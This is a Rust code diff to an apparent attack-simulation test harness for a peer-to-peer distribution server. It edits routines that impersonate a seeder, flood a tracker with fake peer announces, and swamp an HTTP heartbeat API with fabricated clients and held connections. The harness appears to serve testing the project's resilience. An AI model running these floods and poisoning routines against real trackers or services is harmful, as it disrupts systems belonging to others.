@@ -58,6 +58,19 @@ impl Attack {
         Self { _host: host, over, acts }
     }
 
+    /// Wait until it has done what it does so many times.
+    ///
+    /// # Errors
+    /// A minute is over before.
+    pub fn acted_times(&self, times: usize) -> anyhow::Result<()> {
+        let begun = Instant::now();
+        while self.acts.load(Relaxed) < times {
+            anyhow::ensure!(begun.elapsed() < Duration::from_secs(60), "the attack does not get on");
+            thread::sleep(Duration::from_millis(50));
+        }
+        Ok(())
+    }
+
     /// Whether it has done something.
     pub fn acted(&self) -> bool {
         self.acts.load(Relaxed) > 0
@@ -199,7 +212,7 @@ pub fn floods(a: &Attacker, to: SocketAddr, infohash: Infohash) -> io::Result<()
     Ok(())
 }
 
-/// A7: call machines as the server's seeder, and stay.
+/// A7: call machines as somebody who has the image, and stay.
 pub fn pretend(a: &Attacker, seeder: SocketAddr, to: SocketAddr, infohash: Infohash) -> io::Result<()> {
     let (_, theirs) = greet(seeder, infohash, a.id())?;
     let (mut stream, _) = greet(to, infohash, theirs)?;
@@ -230,7 +243,8 @@ pub fn addresses(a: &Attacker, tracker: SocketAddr, to: SocketAddr, infohash: In
     }
     let hash: String = infohash.iter().map(|b| format!("%{b:02x}")).collect();
     for port in 20_000..20_064 {
-        let mut stream = call(tracker)?;
+        // It may be gone.
+        let Ok(mut stream) = call(tracker) else { break };
         let query = format!("info_hash={hash}&peer_id=-XX0000-0000000{port}&port={port}&left=0&compact=1");
         write!(stream, "GET /announce?{query} HTTP/1.0\r\nHost: {}\r\n\r\n", tracker.ip())?;
         stream.read_to_end(&mut Vec::new())?;
@@ -246,18 +260,29 @@ pub fn addresses(a: &Attacker, tracker: SocketAddr, to: SocketAddr, infohash: In
     Ok(())
 }
 
-/// A2: machines that there are not, as large as they can be; and a question of which the answer is never read.
+/// A2: machines that there are not, as large as they can be; and lists of them, on 5 connections of which nothing is
+/// read.
 pub fn heartbeats(a: &Attacker, http: SocketAddr) -> io::Result<()> {
     let mut stream = call(http)?;
     for n in 0..256 {
         stream.write_all(made_up(a.number * 256 + n, http).as_bytes())?;
+        answered(&mut stream)?;
     }
-    a.acted();
-    let mut asks = call(http)?;
     let ask = format!("GET /api/v1/clients HTTP/1.1\r\nHost: {http}\r\n\r\n");
-    asks.write_all(ask.repeat(20).as_bytes())?;
-    a.hold(&asks, Duration::from_secs(5));
+    let mut asks = (0..5).map(|_| call(http)).collect::<io::Result<Vec<_>>>()?;
+    asks.iter_mut().try_for_each(|s| s.write_all(ask.as_bytes()))?;
+    a.acted();
+    a.hold(&asks[0], Duration::from_secs(60));
     Ok(())
+}
+
+/// Read the head of an answer that has no body, or a short one that comes with it.
+fn answered(stream: &mut TcpStream) -> io::Result<()> {
+    let mut space = [0; 1024];
+    match stream.read(&mut space)? {
+        0 => Err(io::ErrorKind::UnexpectedEof.into()),
+        _ => Ok(()),
+    }
 }
 
 fn made_up(n: usize, http: SocketAddr) -> String {
